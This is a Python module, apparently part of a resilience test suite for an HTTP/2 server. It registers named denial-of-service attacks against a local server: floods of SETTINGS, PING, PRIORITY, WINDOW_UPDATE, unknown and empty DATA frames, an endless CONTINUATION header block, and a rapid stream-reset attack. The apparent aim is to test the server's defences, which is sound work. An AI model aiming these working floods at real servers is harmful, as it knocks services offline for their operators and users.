"""Floods of frames."""

import contextlib
import time

from http2 import (
    CONTINUATION, DATA, EMBED, EMBED_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, WINDOW_UPDATE, Closed, Connection,
    frame, headers, settings,
)
from server import Server

from .registry import attack, until


def flood(server: Server, seconds: float, frames: bytes, streams: int = 250) -> None:
    """Opens streams that stay open, then sends `frames` at full rate; connects again when it is thrown out."""
    many = frames * max(1, 60_000 // len(frames))
    for _ in until(seconds):
        with contextlib.suppress(Closed, OSError):
            connection = Connection(server.port, window=0, timeout=5)
            connection.send(b"".join(headers(2 * n + 1, EMBED_STREAM) for n in range(streams)))
            for _ in until(seconds):
                connection.send(many)
        time.sleep(0.05)


@attack("flood-settings", quick=True)
def _(server, seconds):
    """SETTINGS frames that move the windows of 250 open streams"""
    flood(server, seconds, settings(a=1) + settings(a=65535))


@attack("flood-ping")
def _(server, seconds):
    """PING frames at full rate"""
    flood(server, seconds, frame(PING, 0, 0, bytes(8)))


@attack("flood-priority")
def _(server, seconds):
    """PRIORITY frames at full rate"""
    flood(server, seconds, frame(PRIORITY, 0, 1, bytes(5)))


@attack("flood-window-update")
def _(server, seconds):
    """WINDOW_UPDATE frames at full rate"""
    flood(server, seconds, frame(WINDOW_UPDATE, 0, 1, b"\0\0\0\1"))


@attack("flood-unknown")
def _(server, seconds):
    """frames of an unknown kind at full rate"""
    flood(server, seconds, frame(0xFA, 0, 0, b"unknown"))


@attack("flood-empty-data")
def _(server, seconds):
    """DATA frames without data at full rate"""
    flood(server, seconds, frame(DATA, 0, 1))


@attack("flood-continuation")
def _(server, seconds):
    """a header block that never ends"""
    for _ in until(seconds):
        with contextlib.suppress(Closed, OSError):
            connection = Connection(server.port, timeout=5)
            connection.send(frame(HEADERS, 0, 1))
            for _ in until(seconds):
                connection.send(frame(CONTINUATION, 0, 1, b"\0\1a\1b" * 100) * 20)


@attack("flood-resets")
def _(server, seconds):
    """calls that are reset as soon as they begin"""
    for _ in until(seconds):
        with contextlib.suppress(Closed, OSError):
            connection = Connection(server.port, timeout=5)
            for start in range(1, 1_000_000, 200):
                if start > 200_000:
                    break
                streams = range(start, start + 200, 2)
                connection.send(b"".join(headers(n, EMBED) + frame(RST_STREAM, 0, n, b"\0\0\0\x08") for n in streams))
        time.sleep(0.05)
